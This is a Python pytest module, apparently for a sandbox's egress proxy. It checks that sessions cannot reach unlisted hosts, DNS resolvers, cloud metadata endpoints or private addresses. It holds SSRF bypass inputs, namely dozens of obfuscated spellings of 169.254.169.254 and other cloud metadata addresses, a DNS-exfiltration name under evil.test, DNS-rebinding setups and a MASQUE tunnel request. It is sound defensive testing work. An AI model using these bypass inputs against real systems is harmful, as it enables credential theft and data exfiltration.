"""71, 72, 74, 75, 80, 81: what a session's policy does not allow is not reached, whoever asks the proxy and however."""

from __future__ import annotations

import asyncio
import json

import pytest
import pytest_asyncio

from sandlot.client.async_client import AsyncClient
from sandlot.client.async_session import AsyncSession
from sandlot.domain.errors import InvalidRequest, Unavailable
from sandlot.domain.network.hosts import parse_host
from sandlot.domain.network.policy import EgressPolicy
from sandlot.providers.link.port_listener import AgentPortListener
from sandlot.testing.eventually import eventually
from sandlot.wiring import LocalWorker
from tests.attacks.egress import (
    FORBIDDEN,
    HERE,
    PROGRAMS,
    Inside,
    answers_of_names,
    connect,
    get,
    hello,
    web_ports,
    worker_for_egress,
)
from tests.attacks.test_network import WALLS, addresses
from tests.docker.test_walls import all_of, refused
from tests.network.conftest import ENVIRONMENTS
from tests.unit.network import rig
from tests.unit.network.rig import OK, answering, echo, outside

pytestmark = [pytest.mark.docker, pytest.mark.asyncio(loop_scope="session")]

RESOLVERS = (
    "1.1.1.1",
    "8.8.8.8",
    "[2606:4700:4700::1111]",
    "dns.google",
    "cloudflare-dns.com",
    "resolver.test",
)
# Made when somebody asks. What nobody may have is swept away soon.
NO_POOL = {"pool_size": 0, "min_pool_size": 0, "queue_timeout_s": 3.0, "orphan_grace_s": 1.0}
# One address, as C libraries and URL parsers read it.
SPELLINGS = (
    *("169.254.169.254", "169.254.169.254.", "2852039166", "0xa9fea9fe", "0XA9FEA9FE", "025177524776"),
    *("0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "0251.254.0xa9fe", "169.254.43518", "169.16689662"),
    *("00000251.254.169.254", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:FFFF:A9FE:A9FE]"),
    *("[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b::169.254.169.254]", "[64:ff9b:1::a9fe:a9fe]"),
    *("[2002:a9fe:a9fe::]", "[2001:0:a9fe:a9fe::]"),
)
# What other clouds have, and what stands beside it.
ELSEWHERE = (
    *("[fd00:ec2::254]", "[FD00:0EC2:0::254]", "[fd20:ce::254]", "[fe80::a9fe:a9fe]", "100.100.100.200"),
    *(
        "168.63.129.16",
        "192.0.0.192",
        "169.254.170.2",
        "169.254.170.23",
        "0.0.0.0",
        "[::]",
        "255.255.255.255",
    ),
)
# Some parsers take these for the address as well. They are no hosts.
NO_HOSTS = (
    *(
        "169。254。169。254",
        "①⑥⑨.254.169.254",
        "\uff11\uff16\uff19.254.169.254",
        "169.254.169.254%00",
        "169.254.169.254%2e",
    ),
    *(
        "[fe80::a9fe:a9fe%25eth0]",
        "0xa9fea9fe.0x",
        "4294967296.169.254",
        "169.254.169.254\\@a.test",
        "[169.254.169.254]",
    ),
)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def around(egress_worker: LocalWorker) -> dict[str, dict[str, object]]:
    """What every way around the proxy gave, in a session of each tier that may reach the public and a resolver."""
    outcomes = {}
    for environment in ENVIRONMENTS.values():
        network = [
            "public",
            *(f"{each}:{port}" for each in ("a.test", HERE, "1.1.1.1") for port in (53, 853, 443)),
        ]
        async with AsyncClient(service=egress_worker).create(environment, network=network) as session:
            for folder, name in ((WALLS, "attacks.py"), (PROGRAMS, "ways_out.py")):
                await session.files.write(name, (folder / name).read_bytes())
            ran = await session.run(f"python3 ways_out.py 443 {' '.join(addresses())}", timeout_s=180)
            assert ran.exit_code == 0, ran
            outcomes[environment] = json.loads(ran.stdout)
    return outcomes


async def test_71_only_listed_hosts_are_reached(
    inside: Inside,
    around: dict[str, dict[str, object]],
    monkeypatch: pytest.MonkeyPatch,
    connects: list[tuple[str, int]],
) -> None:
    """Neither another host, nor the listed one by its address, nor a resolver over HTTPS, TLS or QUIC."""
    asked = answers_of_names(monkeypatch, a=[HERE], b=[HERE], resolver=[HERE])
    async with outside(answering(OK)) as web, outside(echo) as secure:
        web_ports(monkeypatch, web.port, secure.port)
        await inside.session.network.set(["a.test"])
        question = "/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE"
        await inside.refused(
            [
                get(f"b.test:{web.port}"),
                connect(f"b.test:{secure.port}", hello("b.test")),
                connect(f"b.test:{secure.port}", hello("a.test")),
                get(f"{HERE}:{web.port}"),
                connect(f"{HERE}:{secure.port}", hello("a.test")),
                *(get(f"{each}:{web.port}", question) for each in RESOLVERS),
                *(connect(f"{each}:{secure.port}", hello(None)) for each in RESOLVERS),
                *(connect(f"{each}:853", hello(None)) for each in ("a.test", HERE, *RESOLVERS)),
                *(connect(f"{each}:53") for each in ("a.test", HERE, *RESOLVERS)),
                f"CONNECT-UDP a.test:{secure.port} HTTP/1.1\r\nHost: a.test\r\n\r\n".encode(),
            ]
        )
        assert (asked, connects) == ([], [])
        refused(around[inside.environment], *all_of(around[inside.environment], "udp ", "tcp ", "dns tls "))
        # The same policy lets through what it lists. QUIC through a proxy is asked for so, and is a plain request.
        masque = get(f"a.test:{web.port}", "/.well-known/masque/udp/1.1.1.1/443/").replace(
            b"Connection: close",
            b"Connection: Upgrade, close\r\nUpgrade: connect-udp\r\nCapsule-Protocol: ?1",
        )
        started = hello("a.test")
        messages = (get(f"a.test:{web.port}"), masque, connect(f"a.test:{secure.port}", started))
        plain, not_udp, tunnel = await inside.say(messages)
        assert plain.endswith(b"hello")
        assert not_udp.startswith(b"HTTP/1.1 200 ")
        assert tunnel.endswith(started)
        assert [bytes(heard) for heard in secure.received] == [started]
        assert all(b"upgrade" not in heard.lower() for heard in web.received)
        assert asked == ["a", "a", "a"]
        assert sorted(connects) == sorted([(HERE, web.port), (HERE, web.port), (HERE, secure.port)])


async def test_72_names_carry_nothing_out(
    inside: Inside,
    around: dict[str, dict[str, object]],
    monkeypatch: pytest.MonkeyPatch,
    connects: list[tuple[str, int]],
) -> None:
    """A policy brings no resolver with it. A name that it denies is not asked for, wherever a program writes it."""
    asked = answers_of_names(monkeypatch, a=[HERE], evil=[HERE])
    secret = "73656372657473.evil.test"
    async with outside(answering(OK)) as web, outside(echo) as secure:
        web_ports(monkeypatch, web.port, secure.port)
        await inside.session.network.set(["a.test"])
        await inside.refused(
            [
                get(f"{secret}:{web.port}"),
                get(f"{secret}.:{web.port}"),
                connect(f"{secret}:{secure.port}", hello(secret)),
                connect(f"{secret}:53"),
                connect(f"a.test:{secure.port}", host=secret),
                get(f"a.test:{web.port}", host=secret),
                get(f"{secret}@a.test:{web.port}"),
            ]
        )
        connected, *_ = await inside.say([connect(f"a.test:{secure.port}", hello(secret))])
        assert connected.startswith(b"HTTP/1.1 200 ")  # and what follows does not reach the host
        assert [bytes(heard) for heard in secure.received] == [b""]
        assert asked == ["a"]
        refused(around[inside.environment], *all_of(around[inside.environment], "dns ", "name "))
        await inside.session.network.set("public")
        answer, unknown = await inside.say([get(f"a.test:{web.port}"), get(f"unknown.test:{web.port}")])
        assert answer.endswith(b"hello")
        assert unknown.startswith(b"HTTP/1.1 502 ")
        assert sorted(asked) == ["a", "a", "unknown"]
        assert sorted(connects) == sorted([(HERE, secure.port), (HERE, web.port)])


async def test_74_metadata_is_not_reached_through_the_proxy(
    inside: Inside, monkeypatch: pytest.MonkeyPatch, connects: list[tuple[str, int]]
) -> None:
    hosts = (*SPELLINGS, *ELSEWHERE)
    leading = {f"m{number}": [str(parse_host(each)).strip("[]")] for number, each in enumerate(hosts)}
    asked = answers_of_names(monkeypatch, a=[HERE], **leading)
    sample = (*hosts[::3], "m0.test")  # a program for each
    locations = iter(sample)

    async def redirect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = "HTTP/1.1 302 Found\r\ncontent-length: 0\r\nlocation: http://{}/latest/meta-data/\r\n\r\n"
        writer.write(head.format(next(locations)).encode())
        await writer.drain()

    def each_way(hosts: tuple[str, ...]) -> list[bytes]:
        return [
            message
            for host in hosts
            for message in (
                get(host, "/latest/meta-data/"),
                connect(f"{host}:80", f"GET /latest/meta-data/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()),
                connect(f"{host}:443", hello(None)),
            )
        ]

    async with outside(redirect) as web:
        await inside.session.network.set({"allow": ["public", f"a.test:{web.port}"]})
        await inside.refused(each_way((*hosts, *NO_HOSTS)))
        assert asked == []
        await inside.refused(each_way(tuple(f"{name}.test" for name in leading)), 403)
        # Not if the session's policy lists the addresses either.
        listed = sorted({str(parse_host(each)) for each in hosts})
        ports = [f"{each}:{port}" for each in listed for port in (80, 443)]
        await inside.session.network.set({"allow": ["public", f"a.test:{web.port}", *ports]})
        await inside.refused(each_way(hosts), 403)
        rules = {each.rule for each in (await inside.session.network.status()).denied[-len(ports) :]}
        assert rules == {"not a public address"}
        assert connects == []
        # An allowed host sends the program there. (To an IPv6 address, curl writes a Host header that is not valid.)
        count = len(sample)
        command = (
            f"curl -sL -m 20 -o /dev/null -w '%{{http_code}} %{{num_redirects}}\\n' http://a.test:{web.port}/"
        )
        ran = await inside.session.run(f"for i in $(seq {count}); do {command}; done", timeout_s=120)
        assert len(ran.stdout.splitlines()) == count
        assert set(ran.stdout.splitlines()) == {"403 1", "400 1"}, ran
        assert {each.rule for each in ran.denied} == {"not a public address"}
        assert connects == [(HERE, web.port)] * count


async def test_75_a_name_leads_to_no_address_that_is_not_allowed(
    inside: Inside, monkeypatch: pytest.MonkeyPatch, connects: list[tuple[str, int]]
) -> None:
    """By a plain request, a tunnel and a forward: also if a name's address changes, or one of several is private."""
    private = (FORBIDDEN, "10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "0.0.0.0", "100.64.0.1")
    v6 = (
        "::1",
        "::ffff:127.0.0.2",
        "::ffff:10.0.0.1",
        "fd00::1",
        "fe80::1",
        "64:ff9b::7f00:2",
        "2002:7f00:2::",
    )
    mixed = (
        f"{HERE} {FORBIDDEN}",
        f"{FORBIDDEN} {HERE}",
        f"{HERE} 10.0.0.1",
        f"{HERE} ::1",
        f"{HERE} fd00::1",
    )
    bad = {f"bad{number}": [each] for number, each in enumerate((*private, *v6, *mixed))}
    rebound = {name: [HERE, FORBIDDEN] for name in ("plain", "kept", "tunnel", "forward")}
    asked = answers_of_names(monkeypatch, **bad, **rebound)
    async with (
        outside(answering(OK)) as host,
        outside(answering(OK), address=FORBIDDEN, port=host.port) as other,
    ):
        plain, kept, tunnel, forward = (f"{name}.test:{host.port}" for name in rebound)
        request = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % tunnel.encode()
        await inside.session.network.set([f"{name}.test:{host.port}" for name in (*bad, *rebound)])
        await inside.session.network.forward(7000, forward)
        again = get(kept).replace(b"Connection: close\r\n", b"")
        firsts = (get(plain), again + again, connect(tunnel, request))
        forwarded = "curl -fsS -m 20 --noproxy '*' http://127.0.0.1:7000"
        answers = await inside.say(firsts)
        assert [answer.count(b"hello") for answer in answers] == [1, 1, 1], answers
        assert answers[1].count(b"HTTP/1.1 403 ") == 1
        assert (await inside.session.run(forwarded)).stdout == "hello"
        assert sorted(asked) == sorted(
            ["plain", "kept", "kept", "tunnel", "forward"]
        )  # once for each connection
        assert connects == [(HERE, host.port)] * 4
        seconds = [get(plain), get(kept), connect(tunnel, request)]
        tunnels = [connect(f"{name}.test:{host.port}", request) for name in bad]
        await inside.refused([*seconds, *tunnels, *(get(f"{name}.test:{host.port}") for name in bad)], 403)
        assert not (await inside.session.run(forwarded)).ok
        assert {each.rule for each in (await inside.session.network.status()).denied} == {
            "not a public address"
        }
        assert connects == [(HERE, host.port)] * 4
        assert other.received == []
        _, writer = await asyncio.open_connection(FORBIDDEN, host.port)
        await rig.eventually(lambda: len(other.received) == 1)  # it does hear of whoever comes
        writer.close()


@pytest.mark.parametrize("environment", ENVIRONMENTS.values())
async def test_80_without_a_proxy_there_is_no_session(
    environment: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sandbox is there, and its port for the proxy cannot be had. Nobody gets it, and it is removed."""
    real, failed = AgentPortListener.listen, list[str]()

    async def listen(self: AgentPortListener) -> None:
        failed.append(self.address)
        raise InvalidRequest("The address is in use.")

    answers_of_names(monkeypatch, a=[HERE])
    async with outside(answering(OK)) as host, worker_for_egress(**NO_POOL) as worker:
        client, network = AsyncClient(service=worker), [f"a.test:{host.port}"]
        monkeypatch.setattr(AgentPortListener, "listen", listen)
        with pytest.raises(Unavailable, match="The address is in use"):
            await client.create(environment, network=network)
        assert set(failed) == {"127.0.0.1:3128"}
        assert (await worker.list_sessions()).sessions == ()
        unusable = set(await worker._sandboxes.engine_states())
        monkeypatch.setattr(AgentPortListener, "listen", real)

        async def is_removed() -> bool:
            return unusable.isdisjoint(await worker._sandboxes.engine_states())

        await eventually(is_removed, 120, "the sandbox is removed")

        async def created() -> bool:
            try:
                async with client.create(environment, network=network) as session:
                    return (await session.run(f"curl -fsS http://a.test:{host.port}")).stdout == "hello"
            except Unavailable:  # a pause after failures
                return False

        await eventually(created, 30, "a session with a proxy")
        assert len(host.received) == 1


async def test_81_no_policy_comes_from_the_pool(inside: Inside, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither a policy, nor what was allowed later, nor a forward: of one that goes on, and of one that has ended."""
    asked = answers_of_names(monkeypatch, a=[HERE], b=[HERE])
    async with outside(answering(OK)) as host:
        a, b = f"a.test:{host.port}", f"b.test:{host.port}"
        reach = "; ".join(
            f"curl -s -o /dev/null -m 20 -w '%{{http_code}} ' {url}"
            for url in (f"http://{a}", f"http://{b}", "--noproxy '*' http://127.0.0.1:7000")
        )

        async def use(session: AsyncSession) -> None:
            await session.network.allow(b)
            await session.network.forward(7000, a)
            assert (await session.run(reach)).stdout == "200 200 200 "

        await inside.session.network.set([a])
        await use(inside.session)
        async with inside.client.create(inside.environment, network=[a]) as earlier:
            await use(earlier)
        asked.clear()
        used = {inside.session.info.sandbox_id, earlier.info.sandbox_id}
        for _ in range(3):
            async with inside.client.create(inside.environment) as session:
                assert session.info.sandbox_id not in used
                used.add(session.info.sandbox_id)
                status = await session.network.status()
                assert (status.policy, status.grants, status.forwards) == (EgressPolicy(), (), ())
                assert (await session.run(reach)).stdout == "403 403 000 "
        assert asked == []
        assert len(host.received) == 6
